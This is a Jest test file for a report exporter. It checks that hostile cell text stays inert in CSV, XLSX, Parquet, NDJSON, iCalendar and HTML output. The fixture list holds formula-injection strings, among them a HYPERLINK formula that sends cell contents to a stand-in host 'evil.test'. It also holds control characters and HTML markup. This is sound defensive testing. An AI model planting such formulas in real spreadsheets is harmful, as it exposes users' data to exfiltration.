import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Cell, ColumnType, Row } from '@certfolio/templates';
import { calendarChunks, csvChunks, htmlChunks, ndjsonChunks, parquetChunks, xlsxChunks } from '../src/index.ts';
import { readCsv, readNdjson, readParquet, readXlsx, type ReadCell } from '@certfolio/testing/report-readers';
import { factsOfReport } from './a-report.ts';
import { allOf } from './all-of.ts';
import { eventsByIcalJs, eventsByNodeIcal, eventsByPython, hasPythonIcalendar } from './calendar-readers.ts';
import { findOpenpyxl, findSoffice, sheetByOpenpyxl, sheetBySoffice } from './office-readers.ts';

const long = `${'x'.repeat(32_766)}Ωy`;
const longShown = /^x{32702}… \[cut, 32768 characters; whole as CSV, NDJSON, JSON and Parquet\]$/;

/** Text that some program between here and a person has run, cut, turned around or lost before. */
const texts = [
  '=1+1',
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  '+49 30 123',
  '-2+3',
  '-0.02',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'a\tb',
  'two\nlines',
  'she said "no", twice',
  "'quoted",
  'a;b,c|d',
  ' padded ',
  '\u202Eesrever\u202C שלום عربي',
  'nul\0inside',
  '\0=1+1',
  'bell\x07 and escape\x1b[31m',
  '_x0041_',
  '<b>&amp;</b>]]>',
  '1850-01-01',
  '1900-02-29',
  '00123456789012345678',
  '12345678901234567890',
  '1E5',
  'TRUE',
  'NULL',
  'München 😀 e\u0301',
  'a\uFEFFmark',
];
const columns: readonly { readonly title: string; readonly type: ColumnType }[] = [
  { title: 'id', type: 'text' },
  { title: 'hostile', type: 'text' },
  { title: 'names', type: 'texts' },
  { title: 'day', type: 'date' },
  { title: 'at', type: 'timestamp' },
  { title: 'cost', type: 'decimal' },
  { title: 'count', type: 'integer' },
  { title: 'is_on', type: 'flag' },
];
/** Days and instants of every age; the first ones are before Excel's calendar begins. */
const days = [
  '1850-01-01',
  '1899-12-31',
  '1900-01-01',
  '1900-02-28',
  '1900-03-01',
  '1969-12-31',
  '2026-11-23',
  '9999-12-30',
];
const rows: readonly Row[] = [...texts, long].map((text, index) => [
  `${index}`,
  text,
  [text.slice(0, 100), 'plain.example'],
  days[index % days.length]!,
  `${days[index % days.length]}T06:07:08.000Z`,
  index % 2 === 0 ? -0.02 : '-0.02',
  index % 2 === 0 ? -5 : 9_007_199_254_740_991,
  index % 2 === 0,
]);
const cellsOf = (title: string): readonly Cell[] => {
  const at = columns.findIndex((column) => column.title === title);
  return rows.map((row) => row[at]!);
};
const column = (
  { columns: titles, rows: read }: { columns: readonly string[]; rows: readonly (readonly ReadCell[])[] },
  title: string,
) => read.map((row) => row[titles.indexOf(title)]);

async function fileOf(chunks: AsyncIterable<string | Uint8Array>): Promise<Buffer> {
  return Buffer.concat((await allOf(chunks)).map((chunk) => Buffer.from(chunk)));
}
const workbook = () => fileOf(xlsxChunks(columns, rows, () => factsOfReport()));

let folder: string;
beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), 'certfolio-hostile-'))));
afterAll(() => rm(folder, { recursive: true, force: true }));

describe('NDJSON', () => {
  it('has every cell as it was', async () => {
    const read = readNdjson(await fileOf(ndjsonChunks(columns, rows)));
    expect(read).toEqual({ columns: columns.map(({ title }) => title), rows });
  });
});

describe('Parquet', () => {
  it('has every cell as it was for DuckDB, decimals exact', async () => {
    const read = await readParquet(await fileOf(parquetChunks(columns, rows, () => factsOfReport())));
    expect(read.types).toEqual([
      'VARCHAR',
      'VARCHAR',
      'VARCHAR[]',
      'DATE',
      'TIMESTAMP',
      'DECIMAL(18,6)',
      'BIGINT',
      'BOOLEAN',
    ]);
    for (const title of ['id', 'hostile', 'names', 'day', 'at', 'is_on'])
      expect(column(read, title)).toEqual(cellsOf(title));
    expect(new Set(column(read, 'cost'))).toEqual(new Set(['-0.020000']));
    expect(column(read, 'count').slice(0, 2)).toEqual([-5n, 9_007_199_254_740_991n]);
  });
});

describe('CSV', () => {
  it('starts no formula, and differs from what was meant by one apostrophe before text that would be one', async () => {
    const read = readCsv(await fileOf(csvChunks(columns, rows)));
    const startsFormula = /^\0*[=+\-@\t\r＝＋－＠]/;
    const disarmed = (cells: readonly Cell[]) =>
      cells
        .map((cell) => (Array.isArray(cell) ? cell.join(',') : String(cell)))
        .map((text) => (startsFormula.test(text) ? `'${text}` : text));
    for (const title of ['id', 'hostile', 'names']) expect(column(read, title)).toEqual(disarmed(cellsOf(title)));
    for (const title of ['day', 'at', 'cost', 'count', 'is_on'])
      expect(column(read, title)).toEqual(cellsOf(title).map(String));
    // Nothing but numbers of numeric columns begins like a formula.
    for (const row of read.rows)
      for (const [at, cell] of row.entries())
        if (startsFormula.test(String(cell)))
          expect([columns[at]!.type, String(cell)]).toEqual([
            expect.stringMatching(/decimal|integer/),
            expect.stringMatching(/^-\d+(\.\d+)?$/),
          ]);
  });
});

/** What every reader of the workbook must find; days before March 1900 are no dates of Excel and stay text. */
function expectWorkbook(
  read: { columns: readonly string[]; rows: readonly (readonly ReadCell[])[] },
  lines: (text: string) => string = (text) => text,
): void {
  expect(read.rows).toHaveLength(rows.length);
  const hostile = column(read, 'hostile');
  expect(hostile.slice(0, -1)).toEqual(
    cellsOf('hostile')
      .slice(0, -1)
      .map((cell) => lines(String(cell))),
  );
  expect(hostile.at(-1)).toHaveLength(32_767);
  expect(hostile.at(-1)).toMatch(longShown);
  expect(column(read, 'day')).toEqual(cellsOf('day'));
}

describe('XLSX', () => {
  it('has every cell as it was for SheetJS, none of them a formula, and says which one is cut', async () => {
    const read = readXlsx(await workbook());
    expectWorkbook(read);
    expect(column(read, 'names')).toEqual(cellsOf('names').map((cell) => (cell as readonly string[]).join(',')));
    expect(column(read, 'at').slice(4, 8)).toEqual([
      '1900-03-01 06:07:08',
      '1969-12-31 06:07:08',
      '2026-11-23 06:07:08',
      '9999-12-30 06:07:08',
    ]);
    expect(column(read, 'at').slice(0, 4)).toEqual(cellsOf('at').slice(0, 4));
    expect(new Set(column(read, 'cost'))).toEqual(new Set([-0.02]));
    expect(column(read, 'count').slice(0, 2)).toEqual([-5, 9_007_199_254_740_991]);
    expect(column(read, 'is_on').slice(0, 2)).toEqual([true, false]);
    expect(read.about.get('Cells cut')).toBe(
      `1, at 32767 characters: Report!B${rows.length + 1}; whole as CSV, NDJSON, JSON and Parquet`,
    );
  });

  const openpyxl = findOpenpyxl();
  (openpyxl ? it : it.skip)(
    `has every cell as it was for openpyxl${openpyxl ? '' : ' (not installed here)'}`,
    async () => {
      const read = await sheetByOpenpyxl(await workbook(), folder);
      expectWorkbook(read);
      expect(read.formulas).toBe(0);
      expect(column(read, 'count').slice(0, 2)).toEqual([-5, 9_007_199_254_740_991]);
      expect(new Set(column(read, 'cost'))).toEqual(new Set([-0.02]));
    },
  );

  const soffice = findSoffice();
  (soffice ? it : it.skip)(
    `shows every cell as it was in LibreOffice${soffice ? '' : ' (not installed here)'}`,
    async () => {
      const read = await sheetBySoffice(await workbook(), folder);
      expectWorkbook(read);
      expect(new Set(column(read, 'cost'))).toEqual(new Set(['-0.02']));
      expect(column(read, 'count').slice(0, 2)).toEqual(['-5', '9007199254740991']);
    },
    120_000,
  );
});

describe('iCalendar', () => {
  const layout = { date: 3, summary: 1, key: [0], alarmDays: [30, 7] };
  const options = { nowMs: Date.parse('2026-11-23T12:00:00Z'), host: 'reports.test', refreshMinutes: 60 };
  const calendar = async () =>
    (await fileOf(calendarChunks(columns, rows, () => factsOfReport(), layout, options))).toString();
  /** LF is the one line end of the format, and control characters are shown as their pictures. */
  const asCalendarText = (cell: Cell) =>
    String(cell)
      .replace(/\r\n?/g, '\n')
      .replace(/[\0-\x08\x0b-\x1f]/g, (char) => String.fromCodePoint(0x2400 + char.codePointAt(0)!));
  const expected = rows.map((row, index) => ({
    uid: `expiring-soon/${index}@reports.test`,
    summary: asCalendarText(row[1]!),
    day: String(row[3]),
    alarms: ['-P30D', '-P7D'],
  }));

  it('has lines of at most 75 octets that break inside no character', async () => {
    const lines = (await calendar()).split('\r\n');
    expect(lines.pop()).toBe('');
    for (const line of lines) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    expect(lines.join('\r\n')).not.toContain('\uFFFD');
    expect(lines.filter((line) => line.startsWith(' ')).length).toBeGreaterThan(800);
  });

  it('has every cell as it was for ical.js', async () => {
    expect(eventsByIcalJs(await calendar())).toEqual(expected);
  });

  it('has every cell as it was for node-ical', async () => {
    expect(eventsByNodeIcal(await calendar())).toEqual(expected);
  });

  const python = hasPythonIcalendar();
  (python ? it : it.skip)(
    `has every cell as it was for the icalendar of Python${python ? '' : ' (not installed here)'}`,
    async () => {
      expect(await eventsByPython(await calendar(), folder)).toEqual(expected);
    },
  );

  it('keeps the identity of an event when everything but its key changes', async () => {
    const changed = rows.map((row): Row => [row[0]!, 'another name', null, '2027-01-01', null, null, null, null]);
    const later = (
      await fileOf(
        calendarChunks(columns, changed.toReversed(), () => factsOfReport(), layout, {
          ...options,
          nowMs: options.nowMs + 86_400_000,
        }),
      )
    ).toString();
    expect(
      eventsByIcalJs(later)
        .map(({ uid }) => uid)
        .toSorted(),
    ).toEqual(expected.map(({ uid }) => uid).toSorted());
  });
});

describe('HTML', () => {
  it('shows text as text, with what no page may have as the replacement character', async () => {
    const page = (await fileOf(htmlChunks(columns, rows, () => factsOfReport(), null))).toString();
    expect(page).toContain('<td>nul\uFFFDinside</td>');
    expect(page).toContain('&#60;b&#62;&#38;amp;&#60;/b&#62;]]&#62;');
    expect(page).not.toContain('<b>');
  });
});
